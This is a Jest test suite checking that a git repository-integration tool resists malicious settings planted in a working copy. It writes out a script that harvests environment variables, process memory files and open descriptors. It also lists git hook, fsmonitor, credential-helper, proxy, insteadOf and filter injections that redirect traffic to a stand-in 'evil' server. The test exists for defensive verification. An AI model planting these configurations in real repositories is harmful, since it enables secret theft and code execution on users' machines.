/**
 * `repository` in a copy whose holder means harm: what is planted there is not run with a secret near, and leads
 * nobody elsewhere.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { GitOverHttp } from './support/git-over-http.ts';
import { GuardedGit } from './support/guarded-git.ts';
import { Origin } from './support/origin.ts';
import { RepositoryBench, resourceDirectoryOf } from './support/repository-bench.ts';
import { seenAnywhere } from './support/seen-anywhere.ts';

const LIMIT_MS = 120_000;

const bench = await RepositoryBench.open();
const { origin, room } = bench;
const guard = await GuardedGit.open(bench.server.url(''));
/** Where nobody is to be led: it has repositories of the same names. */
const elsewhere = new Origin();
const trap = await GitOverHttp.open(elsewhere.directory);
afterAll(async () => {
  await guard.close();
  await trap.close();
  elsewhere.remove();
  await bench.close();
});
afterEach(async () => {
  await bench.tearDown();
  expect(await room.whatExists()).toEqual([]);
}, LIMIT_MS);

const token = `tok_${randomBytes(16).toString('hex')}`;
bench.secrets = { open: async () => ({ token }) };
guard.allowed = `x-access-token:${token}`;

for (const each of [origin, elsewhere]) {
  each.create('site');
}
const first = origin.commit('site', { a: 'a\n', b: 'b\n', 'odd.x': '1\n' });
origin.push('site', 'main');
origin.git('site.work', 'checkout', '-qb', 'feature');
origin.commit('site', { a: 'changed\n', 'odd.x': '2\n' });
origin.push('site', 'feature');
origin.git('site.work', 'checkout', '-q', 'main');
const second = origin.commit('site', { b: 'changed\n' });
origin.push('site', 'main');
elsewhere.commit('site', { evil: 'x\n' });
elsewhere.push('site', 'main');
trap.requests.length = 0;

/** Tells all that whoever runs it could know, and does what a filter does. */
const SPY = `cat >"$HOME/spy" <<'END'
#!/bin/sh
{
  echo "ran: $0 $*"
  env
  cat /proc/self/environ /proc/$PPID/environ /proc/$PPID/cmdline
  for number in 3 4 5 6 7 8 9; do eval "timeout 0.2 cat <&$number" 2>/dev/null; done
} >>"$HOME/seen" 2>&1
case $1 in
  filter) exec cat ;;
  read) timeout 0.2 cat >>"$HOME/seen" ;;
esac
exit 0
END
chmod +x "$HOME/spy"
`;

interface Planted {
  readonly what: string;
  readonly script: string;
  /** It is run where the holder's own files are read or written; never with a secret. */
  readonly mayRun?: boolean;
}

const url = (): string => guard.url('site.git');
const evil = (): string => trap.url('site.git');
const config = (name: string, value: string): string => `git config --add ${name} "${value}"\n`;

const HOOKS = [
  'pre-push',
  'pre-commit',
  'post-checkout',
  'post-merge',
  'post-rewrite',
  'pre-rebase',
  'reference-transaction',
  'post-index-change',
  'prepare-commit-msg',
  'commit-msg',
  'pre-receive',
  'update',
  'fsmonitor-watchman',
  'proc-receive',
  'pre-auto-gc',
  'post-commit',
  'applypatch-msg',
] as const;

const PLANTS: readonly Planted[] = [
  {
    what: 'every hook',
    script: `mkdir -p .git/hooks; for hook in ${HOOKS.join(' ')}; do ln -s "$HOME/spy" .git/hooks/$hook; done`,
  },
  {
    what: 'a folder of hooks',
    script: `mkdir "$HOME/hooks"; for hook in pre-push post-checkout reference-transaction post-index-change; do ln -s "$HOME/spy" "$HOME/hooks/$hook"; done
${config('core.hooksPath', '$HOME/hooks')}`,
  },
  { what: 'a monitor of files', script: config('core.fsmonitor', '$HOME/spy') },
  {
    what: 'programs for ssh, proxies, passwords, signatures, editors',
    script: [
      config('core.sshCommand', '$HOME/spy read'),
      config('core.gitProxy', '$HOME/spy read'),
      config('core.askPass', '$HOME/spy'),
      config('credential.helper', '!$HOME/spy read'),
      config('gpg.program', '$HOME/spy'),
      config('commit.gpgSign', 'true'),
      config('push.gpgSign', 'true'),
      config('core.editor', '$HOME/spy'),
      config('sequence.editor', '$HOME/spy'),
      config('core.pager', '$HOME/spy'),
      config('pager.status', '$HOME/spy'),
      config('diff.external', '$HOME/spy'),
      config('interactive.diffFilter', '$HOME/spy'),
    ].join(''),
  },
  {
    what: 'another name for the address',
    script: [
      config('url.$EVIL.insteadOf', '$URL'),
      config('url.$EVIL.pushInsteadOf', '$URL'),
      'git remote set-url origin "$EVIL"\n',
      'git remote set-url --push origin "$EVIL"',
    ].join(''),
  },
  {
    what: 'a proxy, and headers',
    script: [
      config('http.proxy', '$EVIL'),
      config('http.extraHeader', 'X-Evil: 1'),
      config('http.sslVerify', 'false'),
      config('http.followRedirects', 'true'),
    ].join(''),
  },
  {
    what: 'a filter for every file',
    script: [
      config('filter.x.clean', '$HOME/spy filter'),
      config('filter.x.smudge', '$HOME/spy filter'),
      config('filter.x.required', 'true'),
      `mkdir -p .git/info; echo '* filter=x' >.git/info/attributes`,
    ].join(''),
    mayRun: true,
  },
  {
    what: 'a driver for merges, and texts of files',
    script: [
      config('merge.x.driver', '$HOME/spy'),
      config('merge.default', 'x'),
      config('diff.x.textconv', '$HOME/spy'),
      config('diff.x.command', '$HOME/spy'),
      `mkdir -p .git/info; echo '* merge=x diff=x' >.git/info/attributes`,
    ].join(''),
  },
  {
    what: 'what servers run',
    script: [
      config('uploadpack.packObjectsHook', '$HOME/spy'),
      config('core.alternateRefsCommand', '$HOME/spy'),
      config('receive.procReceiveRefs', 'refs'),
      config('uploadpack.hideRefs', 'refs'),
      config('uploadpack.allowAnySHA1InWant', 'false'),
      config('protocol.version', '0'),
    ].join(''),
  },
  {
    what: 'other objects',
    script: [
      'mkdir "$HOME/other"\n',
      'GIT_DIR="$HOME/other/x.git" git init -q --bare "$HOME/other/x.git"\n',
      'echo "$HOME/other/x.git/objects" >>.git/objects/info/alternates',
    ].join(''),
  },
  {
    what: 'a file that is included',
    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n' "$HOME/spy" "$HOME/spy" >"$HOME/included"
${config('include.path', '$HOME/included')}`,
  },
  {
    what: 'a remote that promises what is missing',
    script: [
      config('extensions.partialClone', 'evil'),
      config('core.repositoryFormatVersion', '1'),
      config('remote.evil.url', 'ssh://x.example/x'),
      config('remote.evil.promisor', 'true'),
      config('core.sshCommand', '$HOME/spy read'),
    ].join(''),
  },
  {
    what: 'a home full of settings',
    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[url "%s"]\\n\\tinsteadOf = %s\\n' \\
  "$HOME/spy" "$HOME" "$EVIL" "$URL" | tee "$HOME/.gitconfig" >/dev/null
mkdir -p "$HOME/.config/git" "$HOME/.ssh"; cp "$HOME/.gitconfig" "$HOME/.config/git/config"; echo '* filter=x' >"$HOME/.config/git/attributes"
echo 'machine 127.0.0.1 login evil password evil' >"$HOME/.netrc"; printf 'Host *\\n  ProxyCommand %s\\n' "$HOME/spy" >"$HOME/.ssh/config"`,
  },
  {
    what: 'commits in place of others',
    script: [
      'fake=$(git -c user.name=x -c user.email=x commit-tree -m fake HEAD^{tree})\n',
      'git replace HEAD $fake\n',
      'mkdir -p .git/info; git rev-parse HEAD >.git/info/grafts',
    ].join(''),
  },
  {
    what: 'another work tree',
    script: `mkdir "$HOME/tree"; ${config('core.worktree', '$HOME/tree')}`,
  },
  { what: 'none, it says', script: config('core.bare', 'true') },
  {
    what: 'other names of commands',
    script: ['status', 'fetch', 'push', 'merge-tree', 'read-tree']
      .map((name) => config(`alias.${name}`, '!$HOME/spy'))
      .join(''),
  },
  {
    what: 'parts of the tree alone',
    script: `${config('core.sparseCheckout', 'true')}mkdir -p .git/info; echo nothing >.git/info/sparse-checkout`,
  },
];

describe('what a holder has planted', () => {
  it.each(PLANTS.map((plant) => [plant.what, plant] as const))(
    'is without effect: %s',
    async (_what, { script, mayRun = false }) => {
      origin.git('site.git', 'update-ref', 'refs/heads/main', second);
      await bench.resource({
        repositories: { site: { url: url(), credential: 'forge', private: true } },
        others: 'any',
      });
      await bench.withLease(
        'site',
        async (lease) => {
          const home = join(resourceDirectoryOf(lease), lease.attemptId, 'home');
          const prepared = await bench.kind.run(
            lease,
            `URL=${url()} EVIL=${evil()}\n${SPY}\n${script}`,
          );
          expect(prepared.stderr).toBe('');
          const seen = join(home, 'seen');
          rmSync(seen, { force: true });
          guard.tried.length = 0;

          const result = await bench.integrate(lease, { ref: 'feature', onto: 'main' });
          expect(result).toMatchObject({ outcome: 'integrated', base: second });
          await bench.status(lease);
          const commit = result.outcome === 'integrated' ? result.commit : '';
          expect(await bench.look(lease, { branch: 'main', contains: first })).toEqual({
            commit: second,
            contains: true,
          });
          expect(await bench.push(lease, { branch: 'main', commit, expected: second })).toEqual({
            outcome: 'pushed',
          });
          expect(origin.git('site.git', 'rev-parse', 'main')).toBe(commit);
          expect(origin.git('site.git', 'show', 'main:a', 'main:b')).toBe('changed\nchanged');
          // One that the copy alone has comes from it, with all of that in force.
          const make = `unset HOME; rm -f .git/info/grafts
git -c core.hooksPath=/dev/null -c core.fsmonitor=false -c commit.gpgSign=false -c core.bare=false \\
  -c core.worktree=$PWD --no-replace-objects -c user.name=x -c user.email=x \\
  commit-tree -p ${commit} -m mine ${commit}^{tree}`;
          const mine = (await bench.kind.run(lease, make)).stdout.trim();
          expect(
            await bench.push(lease, { branch: 'main', commit: mine, expected: commit }),
          ).toEqual({ outcome: 'pushed' });

          const told = existsSync(seen) ? readFileSync(seen, 'latin1') : '';
          if (!mayRun) {
            expect(told).toBe('');
          }
          expect(told).not.toContain(token);
          expect(seenAnywhere(token, room.directory)).toEqual([]);
          expect(trap.requests).toEqual([]);
          expect(guard.tried.every((said) => said === null || said === guard.allowed)).toBe(true);
          // It was asked with the token, or all of that shows nothing.
          expect(guard.tried).toContain(guard.allowed);
        },
        { repository: 'site' },
      );
    },
    LIMIT_MS,
  );

  it.each([
    ['a link', 'mv .git "$HOME/git"; ln -s "$HOME/git" .git'],
    ['a file that names another', 'mv .git "$HOME/git"; echo "gitdir: $HOME/git" >.git'],
    ['gone', 'rm -rf .git'],
  ])(
    'is no repository any more where .git is %s',
    async (_what, script) => {
      await bench.withLease('site', async (lease) => {
        await bench.kind.run(lease, script);
        await expect(
          bench.integrate(lease, { ref: 'feature', onto: 'main' }),
        ).rejects.toMatchObject({
          code: 'conflict',
          message: 'The working copy is no repository any more.',
        });
        expect(await bench.status(lease)).toMatchObject({
          commit: null,
          branch: null,
          changedCount: 0,
        });
      });
    },
    LIMIT_MS,
  );
});
